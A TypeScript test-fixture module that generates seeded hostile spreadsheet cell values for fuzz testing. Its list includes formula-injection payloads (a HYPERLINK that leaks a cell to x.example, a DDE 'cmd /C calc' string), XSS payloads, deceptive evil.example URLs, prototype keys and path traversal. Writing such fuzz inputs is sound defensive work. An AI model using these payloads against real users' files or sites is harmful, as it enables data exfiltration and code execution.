/** Hostile cell values, generated from a seed so that every run tries the same ones. */
import { mulberry32 } from './prng.ts';

/** Pieces an attacker (or a careless paste) puts in a cell: each was a hole once, or is a near miss. */
export const PIECES = [
  // Formulas, and text a spreadsheet keeps as text.
  '=1+1',
  '=HYPERLINK("http://x.example/?leak="&A1,"details")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1)',
  '\t=1',
  '-',
  '-3',
  '+5',
  '−2',
  // Markup and script URLs.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '&amp;',
  '&lt;b&gt;',
  'javascript:alert(1)',
  // Invisible and line-breaking characters.
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u00ad',
  '\u{e0041}',
  '\u202e',
  '\u2066',
  '\u0007',
  '\u0085',
  '\ufeff',
  '\u2028',
  '\u3164',
  '\u0301',
  // URLs that show one host and lead to another, or are not URLs.
  'https://arxiv.org@evil.example/',
  'HTTPS://arxiv.org/abs/2302.00001',
  'https://a.example/ b',
  'https://a.example\\@b.example/',
  'data:text/html,x',
  '//evil.example',
  'https://arxiv.org/abs/2307.09288',
  // Numbers that do not round-trip, and near misses that do.
  '-0',
  '1e-400',
  '12345678901234567890123',
  '1e400',
  '0.1000000000000000055511151231257827',
  'NaN',
  'Infinity',
  '0x10',
  '1,000',
  '7B',
  '42',
  '0.5',
  '1.5416666666666667',
  // CSV structure, prototype keys, path names, Unicode that is fine.
  '"',
  '""',
  ',',
  'a,b',
  'line\nbreak',
  'n/a',
  'yes',
  'constructor',
  '__proto__',
  'index.html',
  '../x',
  '名前 😀',
  '👩\u200d💻',
  'Llama 2',
  '2023-13',
  '2999-01',
  '2023-07-18',
];

/** `count` values of one to three pieces, some around a plain word, a few very long. */
export function hostileValues(seed: number, count: number): string[] {
  const random = mulberry32(seed);
  const pick = () => PIECES[Math.floor(random() * PIECES.length)]!;
  return Array.from({ length: count }, () => {
    const r = random();
    if (r < 0.03) return 'x'.repeat(2001);
    if (r < 0.06) return `https://arxiv.org/abs/${'9'.repeat(600)}`;
    const parts = Array.from({ length: 1 + Math.floor(random() * 3) }, pick);
    if (random() < 0.3) parts.splice(Math.floor(random() * (parts.length + 1)), 0, 'Model');
    return parts.join(random() < 0.5 ? '' : ' ');
  });
}
